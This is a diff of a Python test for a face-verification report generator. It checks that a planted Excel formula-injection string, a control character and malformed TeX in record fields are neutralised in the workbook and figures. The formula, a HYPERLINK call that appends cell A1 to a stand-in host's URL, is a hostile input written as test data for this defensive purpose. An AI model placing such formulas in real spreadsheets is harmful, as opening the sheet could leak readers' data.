@@ -177,30 +177,38 @@ def test_hostile_text_is_escaped_through_the_template(tmp_path):
     assert "<script" not in text.lower()
 
 
-def test_text_that_opens_with_equals_stays_text_in_the_workbook(tmp_path):
-    """openpyxl writes text opening with "=" as a formula: a segment value or a Baidu message
-    like '=HYPERLINK(...)' would have run in the reader's Excel."""
+def test_hostile_text_in_the_workbook_and_the_figures(tmp_path):
+    """openpyxl writes text opening with "=" as a formula (a segment value or a Baidu message
+    like '=HYPERLINK(...)' would have run in the reader's Excel) and refuses control
+    characters (the whole report was lost); Matplotlib read '$...$' in a message as TeX (a
+    '$\\frac{$' failed the errors section)."""
+    import warnings
     import zipfile
 
     from openpyxl import load_workbook
 
     formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    tex = "time\x0cout $\\frac{1}{$"
     recs = P.records(8, n_lite=300, n_liveness=0, n_baidu=20, reference_date="2026-07-01", window_days=30)
     for rec in recs:
         if rec["source"] == "megvii_lite":
             rec["payload"]["biz_info"]["biz_extra_data"] = json.dumps({"channel": formula})
         if rec["source"] == "baidu_getall":
             for a in (rec["payload"].get("result") or {}).get("verify_result", []):
-                a.update(code="222380", message=formula)
+                a.update(code="222380", message=tex)
     d = tmp_path / "data"
     ingest([P.write(tmp_path / "r.jsonl", recs)], d)
     book = tmp_path / "r.xlsx"
-    write_report(d, tmp_path / "r.html", "2026-06-01", "2026-07-01", segments=["channel"], xlsx=book)
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        write_report(d, tmp_path / "r.html", "2026-06-01", "2026-07-01", segments=["channel"], xlsx=book)
+    assert not [w for w in caught if "failed" in str(w.message)], [str(w.message)[:200] for w in caught]
     with zipfile.ZipFile(book) as z:
         xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
     assert "<f>" not in xml                              # no formula anywhere
     cells = [c for ws in load_workbook(book) for row in ws.iter_rows() for c in row if c.value == formula]
     assert cells and all(c.data_type == "s" for c in cells)
+    assert "time\ufffdout $\\frac{1}{$" in xml         # the control character replaced, the rest kept
 
 
 def test_labels_add_far_and_frr(planted, tmp_path):
